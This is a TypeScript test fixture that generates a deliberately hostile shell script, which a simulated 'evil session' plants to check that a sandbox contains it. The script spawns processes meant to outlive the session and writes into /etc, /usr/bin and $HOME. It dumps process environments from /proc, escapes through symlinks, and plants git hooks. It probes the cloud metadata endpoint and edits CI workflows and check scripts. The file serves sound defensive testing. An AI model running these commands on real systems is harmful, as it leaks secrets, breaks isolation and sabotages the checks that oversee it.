/** The program that an evil session hides in a file which the tests run: it tries whatever a sandbox must prevent. */

/** Part of the command line of every process that it leaves behind; nothing else on the machine has it. */
export const mark = '98765.4321'

/**
 * @param outside an absolute folder of the host, open to everybody.
 * @param port where a listener of the host waits on 127.0.0.1.
 * @param kind of the session: each spoils its worktree in another way, so that the gates behind see every one.
 */
export function program(outside: string, port: number, kind: string): string {
  const spoil: Record<string, string> = {
    tests: '',
    implementation:
      'mkdir -p .github/workflows; echo "on: push" >.github/workflows/evil.yml; echo x >>check.sh; rm -rf docs; git init -q nested',
    repair: 'chmod +x src/price.sh; rm -f docs/price.md; ln -s ../check.sh docs/price.md',
  }
  return `# an evil program
mkdir -p reports
(setsid sleep ${mark} >/dev/null 2>&1 &)
(nohup sh -c 'sleep ${mark}' >/dev/null 2>&1 &)
i=0; while [ $i -lt 30 ]; do (sleep ${mark} &) 2>/dev/null; i=$((i + 1)); done
for place in ${outside} ../.. ../../mirrors /tmp /var/tmp /etc /usr/bin $HOME; do
  echo evil 2>/dev/null >"$place/evil-marker-${mark}"
  cat "$place"/* 2>/dev/null | head -c 1000
done >reports/leak.log
cat /proc/[0-9]*/environ /proc/1/environ /proc/self/mountinfo 2>/dev/null | head -c 100000 >>reports/leak.log
ln -sf ${outside}/canary.txt reports/canary.log; echo evil 2>/dev/null >>reports/canary.log
ln -sf ${outside} reports/way; echo evil 2>/dev/null >reports/way/evil-marker-${mark}
for hook in post-checkout pre-push fsmonitor; do echo evil 2>/dev/null >.git/hooks/$hook; done
echo 'gitdir: ${outside}' 2>/dev/null >.git; rm -rf .git 2>/dev/null; mv .git elsewhere 2>/dev/null
git config --global core.hooksPath ${outside} 2>/dev/null; git push --all http://127.0.0.1:${port} 2>/dev/null
node -e "for (const to of [[${port}, '127.0.0.1'], [80, '169.254.169.254'], ['${outside}/socket']]) require('net').connect(...to).on('connect', () => console.log('CONNECTED')).on('error', () => {})" 2>/dev/null
mkfifo reports/pipe 2>/dev/null
head -c 3000000 /dev/zero | tr '\\0' x
[ -e .git ] && { ${spoil[kind] || 'true'}; }
unset price
false
`
}
